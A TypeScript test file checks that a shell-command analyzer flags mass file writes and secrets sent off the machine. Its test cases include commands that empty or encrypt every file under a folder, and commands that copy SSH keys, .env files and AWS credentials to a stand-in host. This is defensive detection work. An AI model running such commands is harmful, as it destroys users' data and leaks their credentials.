import { describe, expect, test } from 'vitest';
import { deriveLine } from './world.ts';

const writes = (line: string) =>
  deriveLine(line).effects.filter((effect) => effect.kind === 'fs.write' || effect.kind === 'fs.edit');

describe('writing to files that a listing of folders elsewhere names', () => {
  test.each([
    'find /srv/docs -type f | while read f; do > "$f"; done',
    'find /srv/docs -type f | xargs truncate -s 0',
    'find /srv/docs -type f | while read f; do openssl enc -aes-256-cbc -in "$f" -out "$f.enc" -k p; done',
  ])('is a write to whatever lies there: %s', (line) => {
    expect(writes(line)).toContainEqual(
      expect.objectContaining({
        targets: [{ kind: 'path', path: '/srv/docs', glob: false }],
        facts: expect.objectContaining({ listed: true }),
      }),
    );
  });

  test.each([
    'find . -type f | while read f; do > "$f"; done',
    'find /tmp/x -type f | xargs sed -i s/a/b/',
    'cd /srv/docs\nfiles=$(grep -rl a .)\nfor f in $files; do sed -i s/a/b/ "$f"; done',
    'find /srv/docs -type f | while read f; do convert "$f" "out/$(basename "$f").png"; done',
  ])('is told by its own target where it stays in the work at hand: %s', (line) => {
    expect(writes(line).flatMap((effect) => effect.targets)).not.toContainEqual(
      expect.objectContaining({ kind: 'path', path: expect.stringMatching(/^\/srv/) }),
    );
  });
});

describe('a secret that one command reads and sends', () => {
  const kinds = (line: string) => deriveLine(line).effects.map((effect) => effect.kind);

  test.each(['rclone copy ~/.ssh remote:x', 'scp .env host.example:', 'tar cf host.example:x.tar ~/.aws'])(
    'leaves this machine: %s',
    (line) => {
      expect(kinds(line)).toContain('secret.send');
    },
  );

  test('is not said to leave with what another command of the line sends', () => {
    expect(kinds("sh -c 'cat .env; rsync -a src/ host.example:src'")).not.toContain('secret.send');
  });
});
